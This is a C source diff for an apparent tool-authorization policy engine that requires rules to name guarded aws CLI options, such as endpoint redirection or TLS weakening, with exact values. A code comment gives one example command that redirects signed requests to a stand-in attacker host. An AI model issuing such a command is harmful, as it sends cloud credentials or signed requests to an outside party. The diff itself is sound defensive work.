@@ -12,6 +12,7 @@
 
 #include "authz_git.h"
 #include "macros.h"
+#include "toolfiles.h"
 #include "toolgrammar.h"
 
 enum cond_kind {
@@ -723,6 +724,46 @@ enum match {
 	MATCH_MAX,
 };
 
+/* aws options that redirect signed requests, weaken TLS, print credentials
+ * or pick other credentials (toolfiles_aws_guarded) are allowed only by a
+ * rule that names them with their exact value: `flag=--region=eu-west-1`
+ * (no glob characters), or `flag=--debug` for one without a value. A rule
+ * that merely allows `aws s3 ls` does not allow `aws s3 ls --endpoint-url
+ * http://attacker`. */
+static bool guarded_flags_named(const struct rule *r, const struct authz_request *req,
+				const struct toolgrammar_parse *gp)
+{
+	if (strcmp(req->tool, "aws") != 0)
+		return true;
+	for (size_t i = 0; i < gp->n_flags; i++) {
+		const struct toolgrammar_flag *f = &gp->flags[i];
+		bool named = false;
+
+		if (!toolfiles_aws_guarded(f->name) && !toolfiles_aws_guarded(f->written))
+			continue;
+		for (size_t j = 0; r->has[COND_FLAG] && j < r->cond[COND_FLAG].n && !named; j++) {
+			const char *item = r->cond[COND_FLAG].items[j];
+			const char *eq = strchr(item, '=');
+			char name[POLICY_MAX_PATTERN + 1];
+			size_t nl = eq ? (size_t)(eq - item) : strlen(item);
+
+			if (nl >= sizeof(name))
+				continue;
+			memcpy(name, item, nl);
+			name[nl] = '\0';
+			if (!toolgrammar_flag_matches(gp, f, name))
+				continue;
+			if (!eq)
+				named = !f->value;
+			else
+				named = f->value && !strpbrk(eq + 1, "*?[\\") && strcmp(eq + 1, f->value) == 0;
+		}
+		if (!named)
+			return false;
+	}
+	return true;
+}
+
 static int rule_match(const struct rule *r, const struct authz_request *req,
 		      const struct toolgrammar_parse *gp, const char *dest, enum match *ret)
 {
@@ -762,6 +803,8 @@ static int rule_match(const struct rule *r, const struct authz_request *req,
 	    (!req->host_cwd || !plist_match(&r->cond[COND_CWD], req->host_cwd, 0)))
 		return 0;
 	if (!git_update_match(r, req))
+		return 0;
+	if (!r->deny && !guarded_flags_named(r, req, gp))
 		return 0;
 	*ret = MATCH_YES;
 	return 0;
